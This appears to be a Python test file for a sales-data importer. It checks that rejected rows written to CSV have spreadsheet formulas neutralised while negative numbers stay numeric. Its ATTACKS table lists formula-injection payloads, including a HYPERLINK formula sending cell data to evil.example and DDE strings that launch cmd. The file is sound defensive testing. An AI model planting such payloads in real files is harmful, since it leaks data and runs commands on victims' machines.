"""Rejects files are safe to open in a spreadsheet: formulas arrive as text, numbers as numbers."""

from __future__ import annotations

import csv
import os
import stat

import duckdb
from hypothesis import given, settings
from hypothesis import strategies as st
from ingest_helpers import write_csv
from test_validation import HEADER, good_rows

from salesflow.ingest import import_file
from salesflow.ingest.spreadsheet_safe import neutralise, neutralise_sql

ATTACKS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': 1,
    "+cmd|' /C calc'!A0": 2,
    "@SUM(1+1)*cmd|' /C calc'!A0": 4,
    "-2+3+cmd|' /C calc'!A0": 5,
}


def test_a_rejects_file_neutralises_formulas_but_keeps_negative_numbers(ws, tmp_path):
    rows = good_rows(8)
    for text, i in ATTACKS.items():
        rows[i][1] = text  # owner
        rows[i][3] = "someday"  # the bad date that rejects the row
    rows[6][5] = "-12.5"  # a negative amount: rejected, and still a number in the file
    path = write_csv(tmp_path / "deals.csv", HEADER, rows)
    rejects = tmp_path / "rejects.csv"
    report = import_file(ws, "opportunities", path, skip_invalid=rejects)
    assert report.rejected == 5
    with rejects.open(newline="") as fh:
        lines = {r["_row"]: r for r in csv.DictReader(fh)}
    for text, i in ATTACKS.items():
        assert lines[str(i + 1)]["owner"] == "'" + text
    assert lines["7"]["amount"] == "-12.5" and lines["7"]["owner"] == "rep2"
    assert not any(v.startswith(("=", "+", "@")) for r in lines.values() for v in r.values())
    assert stat.S_IMODE(os.stat(rejects).st_mode) == 0o600


def test_python_rule_on_known_cases():
    cases = {
        "=1+1": "'=1+1", "+44 20 7946 0958": "'+44 20 7946 0958", "@user": "'@user",
        "\t=1": "'\t=1", "-12.5": "-12.5", "+3": "+3", "-1.234,56": "-1.234,56", "-5%": "-5%",
        "1e-3": "1e-3", "-2e5": "-2e5", "- 3": "'- 3", "plain": "plain", "": "", "a=b": "a=b",
    }  # fmt: skip
    assert {k: neutralise(k) for k in cases} == cases
    assert neutralise(-12.5) == -12.5 and neutralise(None) is None


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="=+-@\t\r0123456789.,%eEabc ()!|'", max_size=12))
def test_the_sql_rule_agrees_with_the_python_rule(value):
    con = duckdb.connect()
    sql = neutralise_sql('"v"')
    got = con.execute(f"SELECT {sql} FROM (SELECT ?::VARCHAR AS v)", [value]).fetchone()[0]
    assert got == neutralise(value)
